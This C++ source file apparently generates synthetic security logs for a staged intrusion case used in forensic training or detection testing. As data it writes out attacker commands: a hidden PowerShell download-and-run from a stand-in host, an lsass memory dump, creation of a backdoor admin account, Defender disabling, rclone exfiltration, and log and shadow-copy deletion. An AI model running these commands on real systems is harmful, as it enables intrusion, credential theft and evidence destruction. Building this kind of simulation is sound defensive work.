// SPDX-License-Identifier: GPL-3.0-or-later
#include "samplecase/Intrusion.h"

#include <array>

namespace tocsin::samplecase {

namespace {

constexpr std::string_view kSecurity = "Security";
constexpr std::string_view kSysmon = "Microsoft-Windows-Sysmon/Operational";
constexpr std::string_view kCmd = R"(C:\Windows\System32\cmd.exe)";
constexpr std::string_view kServices = R"(C:\Windows\System32\services.exe)";
constexpr std::string_view kBeaconHost = "cdn.tidewatch.example";

ProcessFacts start(const Session& session, std::string_view image, std::string commandLine, std::string_view parent, std::string integrity)
{
    ProcessFacts facts;
    facts.session = session;
    facts.image = image;
    facts.commandLine = std::move(commandLine);
    facts.parentImage = parent;
    facts.parentCommandLine = parent;
    facts.integrity = std::move(integrity);
    return facts;
}

void tcp(CaseLogs& logs, Ticks time, std::string_view source, std::string_view target, int port, int seconds, std::string_view group,
         std::string_view rule, bool inbound, std::uint64_t sent, std::uint64_t received)
{
    Flow flow;
    flow.time = time;
    flow.seconds = seconds;
    flow.source = source;
    flow.target = target;
    flow.targetPort = port;
    flow.group = group;
    flow.rule = rule;
    flow.inbound = inbound;
    flow.sentBytes = sent;
    flow.sentPackets = sent / 1100 + 3;
    flow.receivedBytes = received;
    flow.receivedPackets = received / 900 + 3;
    logs.flows.add(flow);
}

Session remoteDesktop(CaseLogs& logs, const Host& host, Ticks time, const Account& account, std::string_view address, std::string_view workstation)
{
    LogonFacts facts;
    facts.session.account = account;
    facts.session.logonId = kIntruderDesktop;
    facts.type = 10;
    facts.process = "User32 ";
    facts.package = "Negotiate";
    facts.workstation = workstation;
    facts.processName = R"(C:\Windows\System32\svchost.exe)";
    facts.address = address;
    facts.elevated = true;
    return logs.windows.logon(host, time, facts);
}

Session network(CaseLogs& logs, const Host& host, Ticks time, const Account& account, std::string_view address, bool elevated)
{
    LogonFacts facts;
    facts.session.account = account;
    facts.address = address;
    facts.elevated = elevated;
    return logs.windows.logon(host, time, facts);
}

} // namespace

void plantWorkstation(CaseLogs& logs)
{
    const Company& company = logs.company;
    const Host& host = company.workstation;
    WindowsLog& windows = logs.windows;
    Random random(logs.seed, "workstation");
    LogonFacts logon;
    logon.session.account = company.victimPerson().account;
    logon.session.logonId = kVictimDesk + 1;
    logon.type = 2;
    logon.process = "User32 ";
    logon.package = "Negotiate";
    logon.workstation = host.name;
    logon.processName = R"(C:\Windows\System32\svchost.exe)";
    logon.address = "127.0.0.1";
    const Session session = windows.logon(host, logs.at(1, 8, 21, 40), logon);

    const ProcessFacts word = windows.process(host, logs.at(1, 8, 31, 52), start(session, R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)",
        R"("C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\mlindqvist\Downloads\Charter invoice 2026-118.docm")",
        R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)", "Medium"));
    const std::string script = "$c=New-Object Net.WebClient;IEX $c.DownloadString('https://cdn.tidewatch.example/a/u')";
    const ProcessFacts shell = windows.child(host, logs.at(1, 8, 32, 7), word, std::string(kPowerShell),
                                             "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand " + encodedCommand(script));
    logs.plant(logs.at(1, 8, 32, 7), attack::Stage::Exploitation, host.name, "Word, opened from a mail, starts hidden PowerShell with an encoded download command.",
               WindowsLog::path(host, kSecurity));
    windows.add(host, logs.at(1, 8, 32, 16), sysmonFileEvent(host, shell, R"(C:\Users\mlindqvist\AppData\Roaming\nwupd\agent.ps1)", logs.at(1, 8, 32, 16)));
    for (Ticks beat = logs.at(1, 8, 32, 12); beat < logs.at(2, 2, 10); beat += random.between(290, 310) * kTicksPerSecond) {
        windows.connection(host, jitter(random, beat), shell, Company::kRelay, kBeaconHost, 443);
        tcp(logs, beat, host.ip, Company::kRelay, 443, 3, "wks-nsg", "DefaultRule_AllowInternetOutBound", false, 2400, 1900);
    }
    logs.plant(logs.at(1, 8, 32, 12), attack::Stage::Exploitation, host.name, "Beacon to " + std::string(Company::kRelay) + " port 443 about every five minutes, until 02:10 of the next night.",
               WindowsLog::path(host, kSysmon));
    const std::string_view cmdPath = kCmd;
    int second = 4;
    for (const std::string_view command : {"whoami /all", "net group \"Domain Admins\" /domain", "nltest /dclist:corp.northwharf.example", "net view /all /domain"}) {
        const ProcessFacts cmd = windows.child(host, logs.at(1, 8, 41, second), shell, std::string(cmdPath), "cmd.exe /c " + std::string(command));
        const std::string tool(command.substr(0, command.find(' ')));
        windows.child(host, logs.at(1, 8, 41, second + 1), cmd, R"(C:\Windows\System32\)" + tool + ".exe", std::string(command));
        second += 12;
    }
    logs.plant(logs.at(1, 8, 41, 4), attack::Stage::Reconnaissance, host.name, "Discovery of the domain: whoami, net group, nltest, net view.", WindowsLog::path(host, kSecurity));
    const Session elevated = shell.session;
    windows.add(host, logs.at(1, 8, 36, 30), taskCreatedEvent(host, elevated, R"(\Microsoft\Windows\NwUpdate\Check)", std::string(kPowerShell),
        R"(-NoP -W Hidden -Exec Bypass -File C:\Users\mlindqvist\AppData\Roaming\nwupd\agent.ps1)"));
    logs.plant(logs.at(1, 8, 36, 30), attack::Stage::Exploitation, host.name, "Hidden scheduled task \\Microsoft\\Windows\\NwUpdate\\Check runs the implant every 15 minutes.",
               WindowsLog::path(host, kSecurity));

    ProcessFacts high = shell;
    high.integrity = "High";
    const ProcessFacts dump = windows.child(host, logs.at(1, 9, 10, 26), high, R"(C:\Users\Public\procdump64.exe)",
                                            R"(procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\ls.dmp)");
    windows.add(host, logs.at(1, 9, 10, 27), sysmonAccessEvent(host, dump, R"(C:\Windows\system32\lsass.exe)", 0x1FFFFF, logs.at(1, 9, 10, 27)));
    windows.add(host, logs.at(1, 9, 10, 29), sysmonFileEvent(host, dump, R"(C:\Users\Public\ls.dmp)", logs.at(1, 9, 10, 29)));
    logs.plant(logs.at(1, 9, 10, 26), attack::Stage::PrivilegeEscalation, host.name, "procdump64 copies the memory of lsass.exe; the administrator's account was cached there.",
               WindowsLog::path(host, kSysmon));
}

void plantLateralMovement(CaseLogs& logs)
{
    const Company& company = logs.company;
    WindowsLog& windows = logs.windows;
    Random random(logs.seed, "lateral");
    const Host& from = company.workstation;
    const Host& mgmt = company.mgmt;
    Session subject;
    subject.account = company.victimPerson().account;
    subject.logonId = kVictimDesk + 1;
    windows.add(from, logs.at(1, 10, 1, 48), explicitLogonEvent(from, subject, company.adminAccount, mgmt.computer, 0x1A2C, R"(C:\Windows\System32\mstsc.exe)"));
    const Session desktop = remoteDesktop(logs, mgmt, logs.at(1, 10, 2, 3), company.adminAccount, from.ip, from.name);
    tcp(logs, logs.at(1, 10, 2, 1), from.ip, mgmt.ip, 3389, 58'080, "mgmt-nsg", "DefaultRule_AllowVnetInBound", true, 38'000'000, 412'000'000);
    logs.plant(logs.at(1, 10, 2, 3), attack::Stage::LateralMovement, "mgmt-vm01", "Remote Desktop logon (type 10) of adm-treyer from wks-0231, where the administrator does not work.",
               WindowsLog::path(mgmt, kSecurity));

    ProcessFacts shell = windows.process(mgmt, logs.at(1, 10, 9, 30), start(desktop, kPowerShell, "powershell.exe -nop -ep bypass", R"(C:\Windows\explorer.exe)", "High"));
    for (int i = 0; i < 240; ++i) {
        Flow flow;
        flow.time = logs.at(1, 10, 12) + i * 900 * kTicksPerMillisecond;
        flow.source = mgmt.ip;
        flow.target = company.db.ip;
        flow.targetPort = static_cast<int>(random.between(23, 3300));
        flow.group = "db-nsg";
        flow.rule = "UserRule_Deny-Vnet-In";
        flow.allowed = false;
        logs.flows.add(flow);
    }
    logs.plant(logs.at(1, 10, 12), attack::Stage::Reconnaissance, "mgmt-vm01", "Sweep of 240 ports of the database server, denied by its NSG.", FlowLog::path("db-nsg"));

    windows.child(mgmt, logs.at(1, 10, 20, 11), shell, R"(C:\Windows\System32\net.exe)", "net user svc_update Harbour!2026 /add");
    windows.add(mgmt, logs.at(1, 10, 20, 12), accountCreatedEvent(mgmt, desktop, company.local));
    windows.add(mgmt, logs.at(1, 10, 20, 12) + 3000, accountEnabledEvent(mgmt, desktop, company.local));
    windows.child(mgmt, logs.at(1, 10, 20, 40), shell, R"(C:\Windows\System32\net.exe)", "net localgroup Administrators svc_update /add");
    windows.add(mgmt, logs.at(1, 10, 20, 41), groupMemberEvent(mgmt, desktop, company.local));
    logs.plant(logs.at(1, 10, 20, 12), attack::Stage::PrivilegeEscalation, "mgmt-vm01", "New local account svc_update, made a member of Administrators within half a minute.",
               WindowsLog::path(mgmt, kSecurity));

    const Session controller = network(logs, company.dc, logs.at(1, 10, 46, 5), company.adminAccount, mgmt.ip, true);
    windows.add(company.dc, logs.at(1, 10, 46, 9), serviceTicketEvent(company.dc, company.adminAccount, "svc-sql", mgmt.ip, 51822, 0x17));
    for (int i = 0; i < 3; ++i)
        windows.add(company.dc, logs.at(1, 10, 47, 2 + i), replicationEvent(company.dc, controller));
    logs.plant(logs.at(1, 10, 46, 5), attack::Stage::LateralMovement, "dc-01", "Network logon (type 3) of adm-treyer on the domain controller from mgmt-vm01.", WindowsLog::path(company.dc, kSecurity));
    logs.plant(logs.at(1, 10, 47, 2), attack::Stage::PrivilegeEscalation, "dc-01", "Directory replication rights used by a person's account (4662): password hashes of the domain are read.",
               WindowsLog::path(company.dc, kSecurity));
    tcp(logs, logs.at(1, 10, 46, 4), mgmt.ip, company.dc.ip, 389, 90, "dc-nsg", "UserRule_Allow-Directory-Tcp", true, 61'000, 8'400'000);
}

void plantApplicationServer(CaseLogs& logs)
{
    const Company& company = logs.company;
    const Host& app = company.app;
    WindowsLog& windows = logs.windows;
    Session subject;
    subject.account = company.adminAccount;
    subject.logonId = kIntruderDesktop;
    ProcessFacts tool = start(subject, R"(C:\Ops\PsExec64.exe)", R"(PsExec64.exe -accepteula \\app-vm01 -s cmd.exe)", kPowerShell, "High");
    tool = windows.process(company.mgmt, logs.at(1, 10, 31, 0), tool);
    windows.add(company.mgmt, logs.at(1, 10, 31, 1), explicitLogonEvent(company.mgmt, subject, company.adminAccount, app.computer, tool.pid, tool.image));
    windows.connection(company.mgmt, logs.at(1, 10, 31, 1), tool, app.ip, app.computer, 445);
    tcp(logs, logs.at(1, 10, 31, 1), company.mgmt.ip, app.ip, 445, 5200, "app-nsg", "DefaultRule_AllowVnetInBound", true, 1'900'000, 640'000);
    const Session session = network(logs, app, logs.at(1, 10, 31, 2), company.adminAccount, company.mgmt.ip, true);
    windows.add(app, logs.at(1, 10, 31, 2) + 4'000'000, shareFileEvent(app, session, company.mgmt.ip, 50411, R"(\\*\ADMIN$)", "PSEXESVC.exe"));
    windows.add(app, logs.at(1, 10, 31, 3), serviceRegisteredEvent(app, company.adminAccount.sid, "PSEXESVC", R"(%SystemRoot%\PSEXESVC.exe)"));
    windows.add(app, logs.at(1, 10, 31, 3), serviceInstalledEvent(app, session, "PSEXESVC", R"(%SystemRoot%\PSEXESVC.exe)"));
    logs.plant(logs.at(1, 10, 31, 3), attack::Stage::LateralMovement, "app-vm01", "PsExec from mgmt-vm01: service PSEXESVC installed (7045, 4697) after a type 3 logon.",
               WindowsLog::path(app, "System"));
    const Session system{Company::system(app), 0x3E7, {}};
    const ProcessFacts service = windows.process(app, logs.at(1, 10, 31, 4), start(system, R"(C:\Windows\PSEXESVC.exe)", R"(C:\Windows\PSEXESVC.exe)", kServices, "System"));
    const ProcessFacts cmd = windows.child(app, logs.at(1, 10, 31, 5), service, std::string(kCmd), "\"cmd.exe\"");
    const ProcessFacts desktop = windows.child(app, logs.at(1, 10, 37, 44), cmd, R"(C:\Windows\System32\mstsc.exe)", "mstsc.exe /v:db-vm01 /admin");
    windows.add(app, logs.at(1, 10, 37, 58), explicitLogonEvent(app, system, company.adminAccount, company.db.computer, desktop.pid, desktop.image));
    windows.connection(app, logs.at(1, 10, 37, 58), desktop, company.db.ip, company.db.computer, 3389);
}

void plantDatabaseServer(CaseLogs& logs)
{
    const Company& company = logs.company;
    const Host& db = company.db;
    WindowsLog& windows = logs.windows;
    const Session desktop = remoteDesktop(logs, db, logs.at(1, 10, 38, 2), company.adminAccount, company.app.ip, company.app.name);
    tcp(logs, logs.at(1, 10, 37, 59), company.app.ip, db.ip, 3389, 55'900, "db-nsg", "UserRule_Allow-Rdp-From-App", true, 21'000'000, 187'000'000);
    logs.plant(logs.at(1, 10, 38, 2), attack::Stage::LateralMovement, "db-vm01",
               "Remote Desktop logon from app-vm01, through a rule left from the migration (Allow-Rdp-From-App).", WindowsLog::path(db, kSecurity));
    const ProcessFacts cmd = windows.process(db, logs.at(1, 10, 39, 10), start(desktop, kCmd, "\"C:\\Windows\\System32\\cmd.exe\"", R"(C:\Windows\explorer.exe)", "High"));

    const std::string preference = "powershell.exe -Command Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true";
    windows.child(db, logs.at(1, 22, 15, 2), cmd, std::string(kPowerShell), preference);
    windows.add(db, logs.at(1, 22, 15, 4), defenderDisabledEvent(db));
    logs.plant(logs.at(1, 22, 15, 2), attack::Stage::Obfuscation, "db-vm01", "Real-time protection of Microsoft Defender switched off (event 5001).",
               WindowsLog::path(db, "Microsoft-Windows-Windows Defender/Operational"));
    windows.child(db, logs.at(2, 1, 4, 12), cmd, R"(C:\Program Files\7-Zip\7z.exe)", R"(7z.exe a -t7z -mhe=on -pTidal C:\ProgramData\b.7z E:\Backup\orders.bak)");
    const ProcessFacts copy = windows.child(db, logs.at(2, 1, 18, 40), cmd, R"(C:\ProgramData\rclone.exe)", R"(rclone.exe copy C:\ProgramData\b.7z out:drop --no-check-certificate)");
    windows.connection(db, logs.at(2, 1, 18, 43), copy, Company::kRelay, kBeaconHost, 443);
    tcp(logs, logs.at(2, 1, 18, 43), db.ip, Company::kRelay, 443, 1860, "db-nsg", "UserRule_allow-any-temp", false, 9'412'000'000, 31'000'000);
    logs.plant(logs.at(2, 1, 4, 12), attack::Stage::Exfiltration, "db-vm01", "The order database's backup is packed with a password (7z).", WindowsLog::path(db, kSecurity));
    logs.plant(logs.at(2, 1, 18, 43), attack::Stage::Exfiltration, "db-vm01", "9.4 GB leave the database server for " + std::string(Company::kRelay) + " port 443 within half an hour.",
               FlowLog::path("db-nsg"));
}

void plantHostConcealment(CaseLogs& logs)
{
    const Company& company = logs.company;
    WindowsLog& windows = logs.windows;
    const Host& db = company.db;
    Session subject;
    subject.account = company.adminAccount;
    subject.logonId = kIntruderDesktop;
    const ProcessFacts cmd = start(subject, kCmd, "\"C:\\Windows\\System32\\cmd.exe\"", R"(C:\Windows\explorer.exe)", "High");
    windows.child(db, logs.at(2, 2, 5, 10), cmd, R"(C:\Windows\System32\vssadmin.exe)", "vssadmin.exe delete shadows /all /quiet");
    logs.plant(logs.at(2, 2, 5, 10), attack::Stage::Obfuscation, "db-vm01", "Shadow copies deleted with vssadmin.", WindowsLog::path(db, kSecurity));
    int second = 5;
    for (const Host* host : {&db, &company.mgmt}) {
        const ProcessFacts shell = host == &db ? cmd : start(subject, kPowerShell, "powershell.exe -nop -ep bypass", R"(C:\Windows\explorer.exe)", "High");
        windows.child(*host, logs.at(2, 2, 8, second), shell, R"(C:\Windows\System32\wevtutil.exe)", "wevtutil.exe cl Security");
        windows.add(*host, logs.at(2, 2, 8, second + 1), securityLogClearedEvent(*host, subject));
        windows.child(*host, logs.at(2, 2, 8, second + 3), shell, R"(C:\Windows\System32\wevtutil.exe)", "wevtutil.exe cl System");
        windows.add(*host, logs.at(2, 2, 8, second + 4), systemLogClearedEvent(*host, subject, "System"));
        logs.plant(logs.at(2, 2, 8, second + 1), attack::Stage::Obfuscation, host->name, "Security and System logs cleared (1102, 104). The collector had the events already.",
                   WindowsLog::path(*host, kSecurity));
        second += 25;
    }
}

void plantLinuxServer(CaseLogs& logs)
{
    const std::string_view host = "au-vm01";
    SyslogLog& syslog = logs.syslog;
    Random random(logs.seed, "ssh");
    static constexpr std::array kGuesses{"admin", "oracle", "ubuntu", "test", "postgres"};
    Ticks guess = logs.at(1, 11, 6);
    logs.plant(guess, attack::Stage::PrivilegeEscalation, std::string(host), "SSH guessing of account names and passwords from mgmt-vm01 (10.1.5.4).", SyslogLog::path(host));
    for (int i = 0; i < 150; ++i) {
        guess += random.between(3, 7) * kTicksPerSecond;
        const std::string user = kGuesses[static_cast<std::size_t>(i) % kGuesses.size()];
        const int pid = static_cast<int>(random.between(20000, 29000));
        const std::string from = "10.1.5.4 port " + std::to_string(random.between(49700, 60000));
        syslog.add(jitter(random, guess), host, Facility::AuthPriv, Severity::Info, "sshd", pid, "Invalid user " + user + " from " + from);
        syslog.add(jitter(random, guess + kTicksPerSecond), host, Facility::AuthPriv, Severity::Notice, "sshd", pid,
                   "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.1.5.4");
        syslog.add(jitter(random, guess + 2 * kTicksPerSecond), host, Facility::AuthPriv, Severity::Info, "sshd", pid, "Failed password for invalid user " + user + " from " + from + " ssh2");
        tcp(logs, guess, logs.company.mgmt.ip, "10.1.3.4", 22, 3, "au-nsg", "DefaultRule_AllowVnetInBound", true, 2'400, 2'900);
    }
    const Ticks time = logs.at(1, 11, 20, 3);
    syslog.add(time, host, Facility::AuthPriv, Severity::Info, "sshd", 31877, "Accepted password for deploy from 10.1.5.4 port 52114 ssh2");
    syslog.add(time + 2'000'000, host, Facility::AuthPriv, Severity::Info, "sshd", 31877, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)");
    tcp(logs, time, logs.company.mgmt.ip, "10.1.3.4", 22, 3400, "au-nsg", "DefaultRule_AllowVnetInBound", true, 220'000, 460'000);
    logs.plant(time, attack::Stage::LateralMovement, std::string(host), "SSH logon of deploy with a password from mgmt-vm01; the account otherwise uses a key.", SyslogLog::path(host));
    syslog.add(logs.at(1, 11, 21, 9), host, Facility::AuthPriv, Severity::Notice, "sudo", 31902, "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash");
    syslog.add(logs.at(1, 11, 21, 9) + 500'000, host, Facility::AuthPriv, Severity::Info, "sudo", 31902, "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)");
    logs.plant(logs.at(1, 11, 21, 9), attack::Stage::PrivilegeEscalation, std::string(host), "deploy becomes root with sudo.", SyslogLog::path(host));
    syslog.add(logs.at(1, 11, 24, 51), host, Facility::AuthPriv, Severity::Notice, "sudo", 31955, "    root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -fsSL https://cdn.tidewatch.example/l -o /usr/local/sbin/nwupd");
    syslog.add(logs.at(1, 11, 25, 20), host, Facility::Cron, Severity::Info, "crontab", 31990, "(root) REPLACE (root)");
    logs.plant(logs.at(1, 11, 25, 20), attack::Stage::Exploitation, std::string(host), "Root's crontab replaced: the implant /usr/local/sbin/nwupd comes back every hour.", SyslogLog::path(host));
    syslog.add(logs.at(2, 2, 14, 11), host, Facility::AuthPriv, Severity::Info, "sshd", 43988, "Accepted password for deploy from 10.1.5.4 port 58120 ssh2");
    syslog.add(logs.at(2, 2, 15, 2), host, Facility::AuthPriv, Severity::Notice, "sudo", 44012, "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd");
    syslog.add(logs.at(2, 2, 15, 3), host, Facility::Daemon, Severity::Info, "systemd", 1, "Stopped Security Auditing Service.");
    syslog.add(logs.at(2, 2, 15, 20), host, Facility::AuthPriv, Severity::Notice, "sudo", 44020, "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/shred -u /var/log/auth.log /root/.bash_history");
    logs.plant(logs.at(2, 2, 15, 2), attack::Stage::Obfuscation, std::string(host), "auditd stopped, auth.log and the shell history shredded.", SyslogLog::path(host));
}

void plantFlood(CaseLogs& logs)
{
    Random random(logs.seed, "flood");
    const Ticks begin = logs.at(1, 23, 0);
    for (int i = 0; i < 2600; ++i) {
        Flow flow;
        flow.time = begin + i * 460 * kTicksPerMillisecond;
        flow.source = "198.19." + std::to_string(random.below(256)) + '.' + std::to_string(random.between(1, 254));
        flow.target = "10.1.1.4";
        flow.sourcePort = static_cast<int>(random.between(1024, 65000));
        flow.targetPort = 443;
        flow.group = "app-nsg";
        flow.rule = "UserRule_Allow-Web-In";
        flow.seconds = 60;
        flow.sentPackets = static_cast<std::uint64_t>(random.between(200, 900));
        flow.sentBytes = flow.sentPackets * 60;
        logs.flows.add(flow);
    }
    logs.plant(begin, attack::Stage::DenialOfService, "app-vm01", "SYN flood of the order portal from some 2,600 addresses for 20 minutes, while the data is being copied.",
               FlowLog::path("app-nsg"));
}

} // namespace tocsin::samplecase
